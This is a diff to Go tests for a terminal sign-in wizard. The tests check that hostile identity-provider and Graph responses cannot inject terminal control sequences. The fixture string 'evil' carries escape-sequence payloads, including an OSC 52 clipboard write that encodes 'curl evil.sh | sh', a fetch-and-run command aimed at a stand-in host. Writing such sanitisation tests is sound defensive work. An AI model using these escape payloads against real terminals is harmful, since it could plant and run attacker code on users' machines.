@@ -30,7 +30,7 @@ const evil = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1
 
 // hostileIdP answers the device code flow at once and puts evil into every
 // field of the ID token and of Graph's answer.
-func hostileIdP(t *testing.T) string {
+func hostileIdP(t *testing.T, refuse bool) string {
 	t.Helper()
 	claims, _ := json.Marshal(map[string]any{"preferred_username": "scanner@contoso.com", "email": "e" + evil,
 		"name": "Scanner " + evil, "tid": "tid" + evil, "oid": "oid" + evil})
@@ -44,6 +44,11 @@ func hostileIdP(t *testing.T) string {
 		case strings.HasSuffix(r.URL.Path, "/devicecode"):
 			answer(w, map[string]any{"device_code": "dev-0123456789abcdef", "user_code": "EVILCODE", "verification_uri": "https://idp.example/device",
 				"expires_in": 900, "interval": 1, "message": evil})
+		case strings.HasSuffix(r.URL.Path, "/token") && refuse:
+			w.Header().Set("Content-Type", "application/json")
+			w.WriteHeader(http.StatusBadRequest)
+			json.NewEncoder(w).Encode(map[string]any{"error": "access_denied" + evil, "error_description": "AADSTS50126: " + evil,
+				"error_codes": []int{50126}, "trace_id": "trace-" + evil, "correlation_id": "corr-" + evil, "timestamp": evil})
 		case strings.HasSuffix(r.URL.Path, "/token"):
 			answer(w, map[string]any{"access_token": "at-0123456789abcdef", "token_type": "Bearer", "expires_in": 3600,
 				"refresh_token": "rt-0123456789abcdef", "id_token": idTok})
@@ -161,7 +166,7 @@ func TestWizardAgainstHostileServers(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	idp := hostileIdP(t)
+	idp := hostileIdP(t, false)
 	opts := Options{
 		Config:   flow.Config{Lang: assets.EN, Authority: idp, GraphURL: idp},
 		SMTPHost: "127.0.0.1", SMTPPort: hostileSMTP(t, ca), SMTPRoots: ca.Pool(),
@@ -197,7 +202,13 @@ func TestWizardAgainstHostileServers(t *testing.T) {
 	wait("test")
 	tm.Send(press("q"))
 	io.Copy(&all, tm.FinalOutput(t, teatest.WithFinalTimeout(5*time.Second)))
-	out := all.String()
+	drawnOnly(t, all.String())
+}
+
+// drawnOnly fails if the program's output holds a control sequence a
+// server could have sent, or never showed the server's text at all.
+func drawnOnly(t *testing.T, out string) {
+	t.Helper()
 	for _, bad := range []string{"\x1b]", "\x1b[2J", "\x07", "\u009b", "\u202e"} {
 		if i := strings.Index(out, bad); i >= 0 {
 			t.Errorf("the output holds %q the program did not draw, near %q", bad, out[max(0, i-60):min(len(out), i+60)])
@@ -206,4 +217,31 @@ func TestWizardAgainstHostileServers(t *testing.T) {
 	if !strings.Contains(out, `\x1b[2J`) {
 		t.Errorf("the server's text never reached the screen (as escapes): the test proves nothing")
 	}
+}
+
+// A refusal from a hostile identity provider: the sign-in screen explains
+// it with the provider's texts cleaned.
+func TestWizardSignInRefusedByHostileServer(t *testing.T) {
+	idp := hostileIdP(t, true)
+	opts := Options{Config: flow.Config{Lang: assets.EN, Authority: idp, GraphURL: idp}}
+	tm := teatest.NewTestModel(t, New(opts), teatest.WithInitialTermSize(120, 40))
+	var all bytes.Buffer
+	teatest.WaitFor(t, tm.Output(), func(b []byte) bool {
+		if strings.Contains(ansi.Strip(string(b)), "mfpmail") {
+			all.Write(b)
+			return true
+		}
+		return false
+	}, teatest.WithDuration(20*time.Second))
+	tm.Send(gotoMsg{flow.StepSignIn})
+	teatest.WaitFor(t, tm.Output(), func(b []byte) bool {
+		if strings.Contains(ansi.Strip(string(b)), "corr-") {
+			all.Write(b)
+			return true
+		}
+		return false
+	}, teatest.WithDuration(20*time.Second), teatest.WithCheckInterval(20*time.Millisecond))
+	tm.Send(press("q"))
+	io.Copy(&all, tm.FinalOutput(t, teatest.WithFinalTimeout(5*time.Second)))
+	drawnOnly(t, all.String())
 }
